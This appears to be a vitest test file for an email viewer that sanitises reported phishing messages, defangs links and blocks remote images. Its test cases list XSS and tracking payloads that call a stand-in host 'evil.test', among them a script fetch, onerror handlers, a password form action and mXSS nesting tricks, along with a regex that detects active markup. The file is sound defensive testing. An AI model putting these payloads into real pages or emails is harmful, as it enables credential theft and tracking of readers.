import { readFile } from 'node:fs/promises';
import { expect, test } from 'vitest';
import { viewMessage } from './message-view.ts';
import { ways } from './test-reports.ts';

const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const mail = (html: string, more = '') =>
  Buffer.from(
    `From: =?UTF-8?B?${Buffer.from('Банк').toString('base64')}?= <a@evil.test>\r
Subject: =?UTF-8?Q?=D0=A1=D1=87=D1=91=D1=82?=\r
MIME-Version: 1.0\r
Content-Type: multipart/related; boundary="b"\r
\r
--b\r
Content-Type: text/html; charset=utf-8\r
\r
${html}\r
${more}--b--\r
`,
  );
const picture = `--b\r
Content-Type: image/png; name="logo.png"\r
Content-ID: <logo@x>\r
Content-Transfer-Encoding: base64\r
\r
${PIXEL}\r
`;
const page = { hidden: 'Картинка', pictures: false };
const view = (html: string, pictures = false, more = '') =>
  viewMessage({ raw: mail(html, more), page: { ...page, pictures } });

/** Everything that can make a browser ask for something, or run, or lead away. */
const active =
  /\s(?:href|src|srcset|action|formaction|background|poster|ping|on\w+|data|cite|xlink:href)\s*=|url\(|@import|<(?:script|iframe|object|embed|link|meta|base|form|input|button|svg|video|audio|source|template|math)\b/i;

test.each([
  '<script>fetch("https://evil.test")</script>',
  '<img src="https://evil.test/o.gif" srcset="https://evil.test/2.gif 2x" onerror="x()">',
  '<link rel="stylesheet" href="https://evil.test/a.css"><link rel="dns-prefetch" href="//evil.test">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/"><a href="login" ping="https://evil.test">x</a>',
  '<body background="https://evil.test/b.png" onload="x()"><table background="https://evil.test/b.png"><tr><td>x</table>',
  '<style>@import "https://evil.test/a.css";@import url(https://evil.test/b.css);a{background:url(https://evil.test/c)}@font-face{font-family:x;src:url(//evil.test/f)}</style>x',
  '<p style="background:url(https://evil.test/a);background-image:image-set(\'https://evil.test/b\' 1x);list-style:\\75rl(https://evil.test/c)">x</p>',
  '<iframe src="https://evil.test"></iframe><object data="https://evil.test"></object><embed src="https://evil.test">',
  '<video poster="https://evil.test/p" src="https://evil.test/v"></video><audio src="https://evil.test/a"></audio>',
  '<svg><image href="https://evil.test/i"/><use href="https://evil.test/u#a"/><style>@import "https://evil.test"</style></svg>',
  '<math><mtext><table><mglyph><style><img src=https://evil.test onerror=x()></style></mglyph></table></mtext></math>',
  '<form action="https://evil.test"><input name="password"><button formaction="https://evil.test/2">OK</button></form>',
  '<noscript><p title="</noscript><img src=https://evil.test onerror=x()>"></noscript>',
  '<a href="javascript:x()">x</a><a href="data:text/html,<script>x()</script>">y</a><a href="https://evil.test" target="_top">z</a>',
  '<!--[if mso]><v:fill src="https://evil.test/v.png"/><![endif]-->x',
  '<template><img src="https://evil.test"></template><plaintext><img src="https://evil.test">',
])('nothing of a hostile message runs, loads or leads away: %s', async (html) => {
  for (const pictures of [false, true]) {
    const { html: shown } = await view(html, pictures);
    expect(shown).not.toBeNull();
    // Text in quotes is shown; what a browser reads as an attribute is what counts.
    const markup = shown!.replace(/>[^<]*</g, '><');
    expect(markup).not.toMatch(active);
  }
});

test('a link shows where it leads, and the list names its real host behind a gateway', async () => {
  const wrapped = 'https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fbad.example%2Flogin&amp;data=1';
  const { html, links } = await view(
    `<a href="https://bad.example/login">https://bank.example/login</a> <a href="${wrapped}"><img src="cid:x" alt="Войти"></a> www.third.example/a`,
  );
  expect(html).toContain('hxxps://bad[.]example/login');
  expect(html).toContain('hxxps://bank[.]example/login');
  expect(html).toContain('www[.]third[.]example/a');
  expect(links.map(({ text, host }) => [text, host])).toEqual([
    ['hxxps://bank[.]example/login', 'bad[.]example'],
    ['Войти', 'bad[.]example'],
  ]);
  expect(links[1]!.address).toMatch(/^hxxps:\/\/eur01\[\.]safelinks/);
});

test('pictures that came with the message are shown on request, others never', async () => {
  const html = '<img src="cid:logo@x" alt="Логотип"><img src="https://evil.test/o.gif" alt=""><img src="cid:gone">';
  const hidden = await view(html, false, picture);
  expect(hidden.pictures).toEqual({ embedded: 2, remote: 1 });
  expect(hidden.html).toContain('Картинка: Логотип');
  expect(hidden.html).not.toContain('<img');
  const shown = await view(html, true, picture);
  expect(shown.html).toContain(`src="data:image/png;base64,${PIXEL}"`);
  expect(shown.html!.match(/<img/g)).toHaveLength(1);
  expect(shown.html).not.toContain('evil.test/o.gif');
});

test('headers are decoded, and a text without HTML has no page', async () => {
  const raw = Buffer.from('Subject: =?UTF-8?Q?=D0=A1=D1=87=D1=91=D1=82?=\r\n\r\nGo to http://bad.example/a now\r\n');
  const { headers, text, hasHtml, html, links } = await viewMessage({ raw, page });
  expect(headers).toEqual([{ name: 'Subject', value: 'Счёт' }]);
  expect(text).toContain('hxxp://bad[.]example/a now');
  expect(links).toEqual([{ text: '', address: 'hxxp://bad[.]example/a', host: 'bad[.]example' }]);
  expect([hasHtml, html]).toEqual([false, null]);
});

test('a text that cannot be cleaned is not shown as HTML', async () => {
  const { html, hasHtml } = await view('<div>'.repeat(3_000));
  expect([hasHtml, html]).toEqual([true, null]);
});

test.each(Object.entries(ways))('the reported email is shown however it was sent: %s', async (_, make) => {
  const raw = make({
    by: 'anna@company.test',
    to: 'anna@company.test',
    report: 'report@company.test',
    link: 'https://p.test/AAAAAAAAAAAAAAAAAAAAAA',
    messageId: '<1@help-desk.test>',
  });
  const shown = await viewMessage({ raw, page });
  expect(`${shown.text} ${shown.html}`).toContain('срок пароля истекает');
  expect(`${shown.text} ${shown.html}`).not.toMatch(/https:\/\/p\.test/);
});

test('samples of real mail are shown', async () => {
  for (const name of ['50-gophish-template.html', '53-knowbe4.html', '56-outlook-vml-button.html']) {
    const html = await readFile(new URL(`../phishing/import/${name}`, import.meta.url), 'utf8');
    const shown = await view(html);
    expect(shown.html, name).not.toBeNull();
    expect(shown.html!.replace(/>[^<]*</g, '><'), name).not.toMatch(active);
  }
});
